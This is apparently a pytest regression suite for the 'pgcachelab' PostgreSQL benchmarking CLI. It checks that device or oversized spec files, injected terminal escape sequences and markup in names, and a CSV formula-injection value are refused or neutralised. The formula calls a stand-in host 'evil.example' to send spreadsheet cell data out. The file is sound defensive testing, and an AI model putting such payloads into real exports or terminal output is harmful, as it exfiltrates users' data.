"""Issue 48, bad input round 4, items 3, 4, 8, 9 and 12 and three more: each case with the
issue's own input through the real entry point (a spec of /dev/zero under a memory limit),
doctor and the agent on a real server, the owned registry as the unprivileged user."""

import contextlib
import csv
import io
import json
import os
import pwd
import re
import resource
import shutil
import sqlite3
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest
from fix_cli import cli_command, cli_env, run_cli, run_cli_forked
from fix_clusters import dsn_of
from fix_lab import store_query
from fix_processes import output_as_user, server_reachable_dir
from test_store_postgresql import new_database

from pgcachelab.machine import host_settings
from pgcachelab.machine.host_tunables import listed_choices
from pgcachelab.store.postgresql import PostgresResultStore
from pgcachelab.store.queue import UnitQueue

REPORT_RUNS_STORE = Path(__file__).parent / "data" / "report-runs" / "results.sqlite"
CLI_MEMORY_BYTES = 1024**3  # a --plan takes ~200 MB; the unbounded read took 23.9 GB


def _limited_memory() -> None:
    resource.setrlimit(resource.RLIMIT_AS, (CLI_MEMORY_BYTES, CLI_MEMORY_BYTES))


def run_cli_bounded(*args, timeout_s: float = 60) -> subprocess.CompletedProcess:
    """`pgcachelab ARGS` in a new process with a memory limit and a timeout: a regression that
    reads without bound fails the test instead of eating the machine's memory."""
    return subprocess.run(
        cli_command(*args),
        env=cli_env(),
        stdin=subprocess.DEVNULL,
        capture_output=True,
        text=True,
        timeout=timeout_s,
        preexec_fn=_limited_memory,
    )


def refused(result: subprocess.CompletedProcess, pattern: str) -> None:
    """Exit 2, one `pgcachelab:` line matching `pattern`, and a hint: no traceback."""
    assert result.returncode == 2, result.stderr
    lines = [line for line in result.stderr.splitlines() if line.startswith("pgcachelab:")]
    assert len(lines) == 1 and re.search(pattern, lines[0]), result.stderr
    assert "Traceback" not in result.stderr
    assert re.search(r"^hint: ", result.stderr, re.MULTILINE), result.stderr


# -- 3. a spec read without bound ---------------------------------------------------------------


@pytest.mark.parametrize(
    ("path", "kind"),
    [
        ("/dev/zero", "a character device"),
        ("/dev/urandom", "a character device"),
        ("/", "a directory"),
    ],
)
def test_a_spec_that_is_not_a_regular_file_is_refused_before_a_byte_is_read(path, kind):
    result = run_cli_bounded("run", path, "--plan")
    refused(result, rf"spec '{path}': {kind}, not a regular file")


def test_a_fifo_spec_is_refused_without_waiting_for_a_writer(tmp_path):
    fifo = tmp_path / "spec.toml"
    os.mkfifo(fifo)
    refused(run_cli_bounded("run", fifo, "--plan"), r"a FIFO \(named pipe\), not a regular file")


def test_a_spec_larger_than_the_cap_is_refused_at_the_cap(tmp_path):
    spec = tmp_path / "huge.toml"
    with open(spec, "wb") as out:
        out.truncate(64 * 1024**2)  # sparse: 64 MiB that take no disk
    refused(run_cli_bounded("run", spec, "--plan"), r"larger than the 4,194,304 bytes")


def test_a_custom_script_that_is_a_device_is_refused_in_the_spec(tmp_path):
    spec = tmp_path / "spec.toml"
    spec.write_text('[pgbench]\nmode = "custom"\nscripts = ["/dev/zero"]\n')
    result = run_cli_forked("run", spec, "--plan")
    refused(result, r'pgbench\.scripts\[0\]\.file: invalid value "/dev/zero": a character device')


def test_inspect_refuses_a_work_dir_whose_settings_file_is_a_fifo(tmp_path):
    (tmp_path / "pgdata").mkdir()
    os.mkfifo(tmp_path / "pgdata" / "pgcachelab.conf")
    result = run_cli_bounded("inspect", "--work-dir", tmp_path)
    refused(result, r"pgcachelab\.conf': a FIFO \(named pipe\), not a regular file")


# -- 4. doctor with a role that may not read data_directory; rich markup in a DSN ---------------

LINK = "[link=https://example.com]x[/link]"


@pytest.mark.server
def test_doctor_says_what_a_plain_role_may_not_read_and_shows_markup_as_text(shared_cluster):
    shared_cluster.apply_settings({})
    with shared_cluster.connect() as conn:
        conn.execute("create role lab_plain login")  # no pg_read_all_settings
    try:
        dsn = dsn_of(shared_cluster).replace("user=lab", "user=lab_plain")
        as_json = run_cli("doctor", "--dsn", dsn, "--json")
        human = run_cli("doctor", "--dsn", f"{dsn} application_name=[/x]")
        linked = run_cli("doctor", "--dsn", f"{dsn} application_name='{LINK}'")
    finally:
        with shared_cluster.connect() as conn:
            conn.execute("drop role lab_plain")
    for result in (as_json, human, linked):
        assert result.returncode in (0, 1), result.stderr  # 1: a critical finding, not a crash
        assert "Traceback" not in result.stderr and "Error" not in result.stderr, result.stderr
    context = json.loads(as_json.stdout)["context"]
    assert context["data_directory"] is None
    [unread] = context["not_read"]
    assert unread.startswith("data_directory (role 'lab_plain' is neither a superuser")
    assert "note: could not read data_directory (role 'lab_plain'" in human.stdout
    assert "application_name=[/x]" in human.stdout
    assert f"application_name={LINK}" in linked.stdout  # shown, not made a hyperlink
    assert "\x1b]8;" not in linked.stdout


def test_a_progress_bar_shows_a_label_with_markup_as_text():
    from pgcachelab.cli.progress import BarProgress

    progress = BarProgress()
    progress.start(2, 0)
    progress.begin(f"step=[/x] {LINK}")
    [task] = progress.bar.tasks
    assert progress.bar.columns[0].render(task).plain == f"step=[/x] {LINK}"


# -- 8. io_scheduler: its shape in the spec, this host's choices before the run -----------------


def test_a_newline_in_io_scheduler_is_refused_by_the_plan(tmp_path):
    spec = tmp_path / "spec.toml"
    spec.write_text('[machine.host]\nio_scheduler = "mq-deadline\\nnone"\n')
    refused(
        run_cli_forked("run", spec, "--plan"),
        r'machine\.host\.io_scheduler: invalid value "mq-deadline\\nnone": not a scheduler name',
    )


@pytest.mark.server  # it resolves the server's install before it refuses
def test_a_scheduler_the_disk_does_not_offer_is_refused_before_the_run(tmp_path, lab_tmp):
    scheduler, _ = host_settings.setting_file("io_scheduler", lab_tmp)
    if scheduler is None or "deadline" in listed_choices(Path(scheduler).read_text()):
        pytest.skip("the disk under the temporary directory has no scheduler, or has deadline")
    spec = tmp_path / "spec.toml"
    spec.write_text(
        '[pgbench]\nscale = 1\nduration = "1s"\n[machine.host]\nio_scheduler = "deadline"\n'
    )
    lab_dir = tmp_path / "lab"
    result = run_cli("run", spec, "--lab-dir", lab_dir, tmpdir=lab_tmp)
    refused(
        result,
        r'machine\.host\.io_scheduler: invalid value "deadline": the disk under .* \(\w+\) offers'
        r" .*mq-deadline.*, not deadline \(mq-deadline is its multi-queue successor\)",
    )
    assert list(lab_tmp.iterdir()) == []  # no cluster was made
    assert store_query(lab_dir, "select run_id from runs") == []


# -- 9. ESC and BEL in a run's name and a step's label: no glyph warning, no raw byte in a plot --

TPCC_LADDER_RUN = "20261122-232518-1200f4"  # tests/data/report-runs: steps rate-limited, ...


def test_a_report_of_names_with_esc_and_bel_draws_them_escaped_and_warns_nothing(tmp_path):
    store = tmp_path / "results.sqlite"
    shutil.copyfile(REPORT_RUNS_STORE, store)
    with contextlib.closing(sqlite3.connect(store)) as db, db:
        db.execute(
            "update runs set name = ?, spec_text = replace(spec_text, 'rate-limited', ?)"
            " where run_id = ?",
            ("tpcc\x1b]0;owned\x07ladder", "rate\\u001b[31m\\u0007limited", TPCC_LADDER_RUN),
        )
        db.execute(
            "update points set label = replace(label, 'rate-limited', ?),"
            " swept = replace(swept, 'rate-limited', ?) where run_id = ?",
            ("rate\x1b[31m\x07limited", "rate\\u001b[31m\\u0007limited", TPCC_LADDER_RUN),
        )
    result = run_cli_forked("report", TPCC_LADDER_RUN, "--store", store, "--output", tmp_path / "r")
    assert result.returncode == 0, result.stderr
    assert "Glyph" not in result.stderr and "\x1b" not in result.stderr, result.stderr
    svgs = list((tmp_path / "r").glob("*.svg"))
    assert svgs
    drawn = "".join(svg.read_text() for svg in svgs)
    assert "\x1b" not in drawn and "\x07" not in drawn
    assert r"rate\x1b[31m\x07limited" in drawn  # as the terminal shows it


# -- 12. agent --run last -----------------------------------------------------------------------


@pytest.mark.server
def test_agent_takes_last_as_every_command_does(shared_cluster, tmp_path):
    shared_cluster.apply_settings({})
    url = new_database(shared_cluster, "round4_agent")
    store = PostgresResultStore(url)
    try:
        measured = store.create_run("measured", "m.toml", "", {}, {}, [], "big-cache")
        args = ("agent", "--store", url, "--run", "last", "--once", "--host-id", "round4-agent")
        not_queued = run_cli(*args, "--lab-dir", tmp_path / "lab")
        queued = store.create_run("queued", "q.toml", "", {}, {}, [], "big-cache")
        UnitQueue(store).enqueue(queued, [], "spread", 1)
        taken = run_cli(*args, "--lab-dir", tmp_path / "lab")
    finally:
        store.close()
    refused(not_queued, rf"--run: run '{measured}' was not queued")
    assert taken.returncode == 0, taken.stderr
    assert "agent measured 0 unit(s)" in taken.stderr


# -- CSV export: a text cell that a spreadsheet would read as a formula --------------------------

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_csv_export_makes_formula_text_cells_text_and_leaves_numbers(tmp_path):
    store = tmp_path / "results.sqlite"
    shutil.copyfile(REPORT_RUNS_STORE, store)
    steps = {0: FORMULA, 1: -2, 2: "-io"}  # a step name, a negative number, text with a minus
    with contextlib.closing(sqlite3.connect(store)) as db, db:
        for point, step in steps.items():
            db.execute(
                "update points set label = ?, swept = ? where run_id = ? and point_index = ?",
                (f"{step}", json.dumps({"step": step}), TPCC_LADDER_RUN, point),
            )
    result = run_cli_forked("export", TPCC_LADDER_RUN, "--store", store)
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    cells = {int(row["point_index"]): (row["label"], row["step"]) for row in rows}
    assert cells == {0: (f"'{FORMULA}", f"'{FORMULA}"), 1: ("'-2", "-2"), 2: ("'-io", "'-io")}
    assert all(not row["tps"].startswith("'") for row in rows)


# -- the owned registry of an ordinary user without XDG_RUNTIME_DIR ----------------------------


def _commands_as_the_user(tmpdir: Path, commands: list[list]) -> str:
    """In the forked child, as the unprivileged user: each command through the entry point
    with TMPDIR `tmpdir` and no XDG_RUNTIME_DIR; then what is left in `tmpdir`."""
    from pgcachelab.cli import main as cli_main

    os.environ.pop("XDG_RUNTIME_DIR", None)
    os.environ["TMPDIR"] = str(tmpdir)
    tempfile.tempdir = None
    sys.stdout = sys.stderr = open(os.devnull, "w")  # noqa: SIM115 (the child ends anyway)
    codes = []
    for args in commands:
        sys.argv = ["pgcachelab", *map(str, args)]
        try:
            cli_main.main()
            codes.append(0)
        except SystemExit as done:
            codes.append(done.code)
    return json.dumps({"codes": codes, "left": sorted(p.name for p in tmpdir.iterdir())})


def _import_what_they_use(commands: list[list]) -> None:
    """Each command once here, its output dropped: whatever it imports lazily is imported before
    the fork, whichever tests ran before in this process (none, under a fresh xdist worker)."""
    from pgcachelab.cli import main as cli_main

    argv = sys.argv
    with (
        open(os.devnull, "w") as devnull,
        contextlib.redirect_stdout(devnull),
        contextlib.redirect_stderr(devnull),
    ):
        for args in commands:
            sys.argv = ["pgcachelab", *map(str, args)]
            with contextlib.suppress(SystemExit):
                cli_main.main()
    sys.argv = argv


@pytest.mark.skipif(os.geteuid() != 0, reason="becoming the unprivileged user needs root")
def test_commands_of_a_user_without_a_runtime_dir_leave_no_registry_behind():
    # The user cannot read this interpreter's standard library (under /root): what the
    # commands import is imported before the fork.
    import pgcachelab.cli.plan
    import pgcachelab.cli.progress
    import pgcachelab.report.tables
    import pgcachelab.store.open  # noqa: F401

    with server_reachable_dir() as base:  # /tmp/pytest-of-root is 0700
        tmpdir = base / "tmp"
        tmpdir.mkdir()
        tmpdir.chmod(0o1777)
        spec = tmpdir / "spec.toml"
        spec.write_text('[pgbench]\nscale = 1\nduration = "1s"\n')
        commands = [["run", spec, "--plan"], ["runs", "--lab-dir", tmpdir / "no-lab"]]
        _import_what_they_use(commands)
        nobody = pwd.getpwnam("nobody")
        done = output_as_user(nobody, lambda: _commands_as_the_user(tmpdir, commands))
    assert json.loads(done) == {
        "codes": [0, 2],  # a plan; a lab directory with no store
        "left": ["spec.toml"],  # no pgcachelab-owned-UID
    }


def test_the_registry_goes_only_when_empty_and_never_waits_for_a_lab_using_it(
    tmp_path, monkeypatch
):
    from pgcachelab.machine import owned

    registry = tmp_path / "owned"
    monkeypatch.setattr(owned, "registry_dir", lambda *_: registry)
    entry = owned.record("dir", tmp_path / "x")
    owned.remove_if_empty()
    assert [e.path for e in owned.entries()] == [str(tmp_path / "x")]  # kept: it records one
    owned.forget(entry)
    with owned.registry_lock():  # another lab reaping: the directory is in use
        owned.remove_if_empty()
        assert registry.is_dir()
    owned.remove_if_empty()
    assert not registry.exists()
    with owned.registry_lock():  # made again by the next lab that needs it
        assert owned.entries() == []
    owned.record("dir", tmp_path / "y")
    assert len(owned.entries()) == 1
